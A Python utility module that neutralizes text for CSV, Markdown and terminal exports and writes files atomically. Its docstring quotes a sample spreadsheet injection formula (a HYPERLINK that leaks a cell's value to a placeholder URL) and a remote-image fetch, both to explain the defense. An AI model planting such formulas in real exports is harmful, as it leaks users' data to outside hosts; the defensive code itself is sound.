"""Text from documents made inert where an export hands it to another program, and exports written whole or not at all.

A document's heading or passage travels into files other programs open: a spreadsheet runs a CSV cell that begins
with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one) as a formula
(``=HYPERLINK("http://.../?leak="&A1, ...)``); a Markdown viewer fetches a remote image (``![x](http://...)``,
``<img src=...>``) the moment the file is opened; a terminal acts on ESC, BEL and C1 controls, and bidi controls
reorder what is read. So:

- :func:`csv_cell` prefixes such a cell with a single quote, the way OWASP and the spreadsheet vendors recommend
  (the spreadsheet then shows it as text; the csv module reads the quote back as part of the value), and escapes
  control and bidi characters;
- :func:`escaped` writes control and bidi characters (C0 but newline and tab, DEL, C1, the bidi embeddings,
  overrides, isolates and marks, line and paragraph separators) as their Python escapes (``\\x1b``, ``\\u202e``):
  visible, inert. Zero-width joiners, soft hyphens and emoji tag sequences are content and kept;
- :func:`markdown_text` also escapes what would make Markdown or HTML act: ``![`` (an image, inline or by
  reference) and ``<`` (any raw HTML tag: ``<img>``, ``<iframe>``), so the text reads as it was written and
  nothing is fetched;
- :func:`write_atomically` writes an export to a temporary file beside the target and renames it into place, so an
  error (a full disk, ``/dev/full``) leaves the old file as it was; a target that is not a regular file (a device,
  a pipe) is written in place, never replaced.
"""

from __future__ import annotations

import contextlib
import os
import stat
import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import IO

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_BIDI = frozenset("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u2028\u2029")
_KEPT = frozenset("\n\t")


def _acts(ch: str) -> bool:
    code = ord(ch)
    return (code < 0x20 and ch not in _KEPT) or 0x7F <= code <= 0x9F or ch in _BIDI


def _escape(ch: str) -> str:
    code = ord(ch)
    return f"\\x{code:02x}" if code <= 0xFF else f"\\u{code:04x}"


def escaped(text: str) -> str:
    """``text`` with every control character (but newline and tab) and bidi control written as its escape."""
    if not any(_acts(ch) for ch in text):
        return text
    return "".join(_escape(ch) if _acts(ch) else ch for ch in text)


def csv_cell(value: object) -> object:
    """A value for a CSV cell: text that a spreadsheet would run as a formula gets a leading single quote; control
    and bidi characters are escaped. Numbers and None pass unchanged (a negative number is a number, not a
    formula)."""
    if not isinstance(value, str):
        return value
    safe = escaped(value)
    return "'" + safe if value.startswith(FORMULA_START) else safe


def markdown_text(text: str) -> str:
    """``text`` for a Markdown export: :func:`escaped`, then images (``![``) and raw HTML (``<``) made literal."""
    return escaped(text).replace("<", "&lt;").replace("![", "\\![")


def _regular_or_missing(path: Path) -> bool:
    try:
        return stat.S_ISREG(os.stat(path).st_mode)
    except FileNotFoundError:
        return True


@contextlib.contextmanager
def _opened(path: Path) -> Iterator[IO[str]]:
    if not _regular_or_missing(path):  # /dev/full, /dev/stdout, a FIFO: written in place, never renamed over
        with path.open("w", encoding="utf-8", newline="") as fh:
            yield fh
        return
    fd, tmp = tempfile.mkstemp(prefix=f".{path.name}.", suffix=".tmp", dir=path.parent)
    try:
        with os.fdopen(fd, "w", encoding="utf-8", newline="") as fh:
            yield fh
            fh.flush()
            os.fsync(fh.fileno())
        with contextlib.suppress(OSError):  # keep the mode an existing file had
            os.chmod(tmp, stat.S_IMODE(os.stat(path).st_mode) if path.exists() else 0o644)
        os.replace(tmp, path)
    except BaseException:
        with contextlib.suppress(OSError):
            os.unlink(tmp)
        raise


def write_atomically(path: Path, write: Callable[[IO[str]], object]) -> Path:
    """Call ``write`` with a text stream whose content becomes ``path`` only when it returns (OSError otherwise,
    the old file untouched)."""
    with _opened(path) as fh:
        write(fh)
    return path


def write_text_atomically(path: Path, text: str) -> Path:
    """``text`` written to ``path`` by :func:`write_atomically`."""
    return write_atomically(path, lambda fh: fh.write(text))
